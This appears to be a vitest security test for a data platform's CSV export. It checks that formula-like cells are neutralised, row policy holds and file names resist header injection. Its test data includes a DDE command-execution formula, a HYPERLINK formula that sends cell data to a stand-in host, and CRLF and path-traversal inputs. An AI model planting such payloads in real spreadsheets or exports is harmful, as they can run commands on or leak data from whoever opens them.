import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createServerFixture, type ServerFixture } from './support/server-fixture.ts';

/** Each with what a spreadsheet could make of it. */
const CELLS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  "'=1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
  '\uff1d1+1',
  '\ufeff=1',
  '-5',
  '+49 30 1234',
  ';=1',
  ',=1',
  '"\r\n=1"',
  'plain, with a comma',
];

let fixture: ServerFixture;

beforeAll(async () => {
  fixture = await createServerFixture();
  const { analytics, lens, admin } = fixture;
  await analytics.query('CREATE TABLE public.hostile (id integer PRIMARY KEY, owner text, cell text)');
  for (const [index, cell] of CELLS.entries()) {
    await analytics.query('INSERT INTO public.hostile VALUES ($1, $2, $3)', [index, `o${index % 3}`, cell]);
  }
  await analytics.query(`GRANT SELECT ON public.hostile TO ${analytics.readerRole}`);
  await lens.datasets.create(admin, {
    name: 'hostile',
    base: { schema: 'public', table: 'hostile' },
    key: ['id'],
    fields: {
      id: { column: 'id', type: 'integer' },
      owner: { column: 'owner', type: 'text' },
      cell: { column: 'cell', type: 'text' },
    },
    policy: { rows: { or: [{ field: 'owner', op: 'eq', value: { attribute: 'owner' } }] } },
  });
});
afterAll(() => fixture?.close());

/** The cells of a CSV text, read by RFC 4180. */
function cellsOf(text: string): string[][] {
  return [...text.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*)\r\n/g)].map(
    ([, line = '']) =>
      [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^",]*)/g)].map(([, cell = '']) =>
        cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
      ),
  );
}

async function tokenOf(owner: string): Promise<string> {
  const user = { email: `${owner}@example.com`, password: 'violet anchors drift at dawn' };
  const { id } = await fixture.lens.users.create({ ...user, role: 'editor' });
  await fixture.lens.users.update(fixture.admin, id, { attributes: { owner } });
  return (await fixture.lens.auth.login(user)).accessToken;
}

async function exported(token: string, body: object): Promise<string> {
  const answer = await fixture.call('exportQuery', { token, query: { format: 'csv' }, body });
  expect(answer.status, answer.text).toBe(200);
  return answer.text;
}

describe('control 13/24: an export', () => {
  test('holds no cell that a spreadsheet would calculate, and each that is in the rows', async () => {
    const found = new Map<string, string>();
    for (const owner of ['o0', 'o1', 'o2']) {
      const text = await exported(await tokenOf(owner), { dataset: 'hostile', fields: ['id', 'cell'] });
      const [header, ...rows] = cellsOf(text);
      expect(header).toEqual(['id', 'cell']);
      // Only the rows of its owner, as the policy of the dataset has it.
      expect(rows.map(([id]) => Number(id) % 3)).toEqual(rows.map(() => Number(owner.slice(1))));
      for (const [id = '', cell = ''] of rows) found.set(id, cell);
    }
    expect(found.size).toBe(CELLS.length);
    for (const [index, cell] of CELLS.entries()) {
      const written = found.get(String(index)) ?? '';
      expect(written).not.toMatch(/^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/);
      expect([cell, `'${cell}`]).toContain(written);
    }
  });

  test('has no column whose name could be a formula', async () => {
    const token = await tokenOf('o9');
    for (const as of ['=1+1', '@a', '-a', 'a,b', 'a"b', 'a\r\nb']) {
      const metrics = [{ aggregate: 'count', as }];
      const { status } = await fixture.call('exportQuery', { token, body: { dataset: 'hostile', metrics } });
      expect(status, as).toBe(422);
    }
  });

  test('has a file name that is no header of its own, however the dataset is called', async () => {
    const { lens, admin, dataset } = fixture;
    const made = await lens.datasets.create(admin, {
      name: 'n'.repeat(64),
      base: dataset.base,
      fields: dataset.fields,
      joins: dataset.joins ?? [],
    });
    for (const asked of [made.name, made.id]) {
      const body = { dataset: asked, metrics: [{ aggregate: 'count' }] };
      const { headers } = await fixture.call('exportQuery', { token: fixture.token, body });
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9_-]+\.csv"$/);
    }
    for (const name of ['a"b', 'a\r\nX-Odd: b', '../a', 'a;b', 'é']) {
      const { status } = await fixture.call('createDataset', {
        token: fixture.token,
        body: { name, base: dataset.base, fields: {} },
      });
      expect(status, name).toBe(422);
    }
  });
});
